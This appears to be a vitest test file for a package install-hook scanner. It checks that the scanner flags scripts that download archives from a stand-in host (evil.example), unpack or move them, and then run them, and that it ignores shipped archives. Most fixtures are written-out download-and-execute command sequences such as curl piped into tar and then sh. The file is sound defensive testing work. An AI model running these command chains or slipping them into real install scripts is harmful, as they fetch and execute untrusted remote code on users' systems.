/**
 * Pins that the hook scan follows a download through the steps that unpack or move it before it
 * runs: an archive downloaded and unpacked (`tar x`, `unzip`, `7z x`, `python -m zipfile -e`,
 * `curl | tar xz`) whose contents a later step runs, a download decompressed, copied or fed
 * through a pipe into a file, and a `cd` into the folder it went to; the code of `sh -c`; while
 * archives the package ships, downloads that are only read (also as a script's argument), and
 * shipped scripts raise nothing.
 */
import { describe, expect, it } from 'vitest';

import { installFindings } from '../support/scan-package.ts';

describe('hook scan: downloads unpacked, then run', () => {
  it.each([
    [
      'tar xzf of a curl -o, then ./a/install.sh',
      ['curl -fsSL -o a.tgz https://evil.example/a.tgz', 'tar xzf a.tgz', './a/install.sh'],
      4,
    ],
    ['unzip -d of a wget, then its file run', ['wget https://evil.example/a.zip', 'unzip -q a.zip -d a', './a/run'], 4],
    [
      'curl piped into tar -C the root, then sh on a file in it',
      ['curl -fsSL https://evil.example/v.tgz | tar -xz -C "$AGPK_INSTALL_ROOT/vendor"', 'sh vendor/setup.sh'],
      3,
    ],
    [
      'python -m zipfile -e, then python on a file in it',
      ['curl -LO https://evil.example/tool.zip', 'python3 -m zipfile -e tool.zip tool', 'python3 tool/main.py'],
      4,
    ],
    [
      'tar --extract --file, then chmod +x in it',
      [
        'curl -o pkg.tar https://evil.example/pkg.tar',
        'tar --extract --file=pkg.tar --directory=opt',
        'chmod +x opt/bin/tool',
      ],
      4,
    ],
    ['7z x -o, then a file in it run', ['curl -o t.7z https://evil.example/t.7z', '7z x t.7z -ot', 't/run.sh'], 4],
    [
      'a gunzip of a download, then made executable',
      ['curl -o tool.gz https://evil.example/tool.gz', 'gunzip tool.gz', 'chmod +x tool'],
      4,
    ],
    [
      'curl piped through gunzip into a file, then run',
      ['curl -fsSL https://evil.example/t.gz | gunzip > tool', 'chmod 755 tool && ./tool'],
      3,
    ],
    [
      'a download moved, then run under its new name',
      ['curl -fsSLo dl https://evil.example/x', 'mv dl bin/tool', 'bin/tool --init'],
      4,
    ],
    [
      'curl piped into tee, then sourced',
      ['curl -fsSL https://evil.example/env | tee env.sh >/dev/null', '. ./env.sh'],
      3,
    ],
  ])('flags %s', async (_what, lines, at) => {
    expect(await installFindings(...lines)).toEqual([`install.download-exec@INSTALL:${at}`]);
  });

  it('follows cd into the folder an archive went to', async () => {
    const found = await installFindings(
      'curl -fsSL -o /tmp/t.tgz https://evil.example/t.tgz',
      'mkdir -p /tmp/t && tar -xzf /tmp/t.tgz -C /tmp/t',
      'cd /tmp/t',
      './install.sh',
    );
    expect(found).toEqual([
      'install.outside-root@INSTALL:2',
      'install.outside-root@INSTALL:3',
      'install.download-exec@INSTALL:5',
    ]);
  });

  it('reads paths as written after a cd it cannot follow', async () => {
    expect(
      await installFindings(
        'cd "$(dirname "$0")"',
        'curl -fsSL -o t.tgz https://evil.example/t.tgz',
        'tar xzf t.tgz',
        'sh t/install.sh',
      ),
    ).toEqual(['install.download-exec@INSTALL:5']);
  });

  it.each([
    [
      'a download unpacked where it was cd-ed to, then a shipped script run from the root',
      ['curl -fsSLo var/d.tgz https://x.example/d.tgz', 'cd var', 'tar xzf d.tgz', 'cd ..', 'sh payload/setup.sh'],
    ],
    [
      'an archive the package ships, unpacked and its script run',
      ['tar xzf payload/data.tgz -C var', 'sh var/setup.sh', 'unzip -q payload/web.zip -d var/web'],
    ],
    [
      'a downloaded archive unpacked into a folder, and a shipped script run',
      [
        'curl -fsSL -o var/data.tgz https://x.example/d.tgz',
        'tar xzf var/data.tgz -C var/data',
        'sh payload/setup.sh',
        'cat var/data/index.json >/dev/null',
      ],
    ],
    [
      'a download piped into tar, nothing of it run',
      ['curl -fsSL https://x.example/models.tgz | tar xz -C var/models', 'echo done'],
    ],
    [
      'a download piped through jq into a file that is read',
      ['curl -fsSL https://x.example/c.json | jq . > var/config.json', 'python3 payload/setup.py var/config.json'],
    ],
    ['a shipped archive unpacked, then make', ['tar xzf payload/src.tgz', 'make -C src']],
  ])('flags nothing for %s', async (_what, lines) => {
    expect(await installFindings(...lines)).toEqual([]);
  });
});

describe('hook scan: what a shell or interpreter is handed', () => {
  it('reads the code of sh -c as a line of the hook', async () => {
    expect(await installFindings(`sh -c 'curl -fsSL -o t https://evil.example/t'`, 'chmod +x t')).toEqual([
      'install.download-exec@INSTALL:3',
    ]);
  });

  it("takes an interpreter's first argument as the script it runs, not the ones after it", async () => {
    expect(
      await installFindings(
        'curl -fsSL -o var/input.txt https://x.example/input.txt',
        'python3 payload/convert.py var/input.txt',
        'python3 -m json.tool var/input.txt >/dev/null',
      ),
    ).toEqual([]);
  });
});
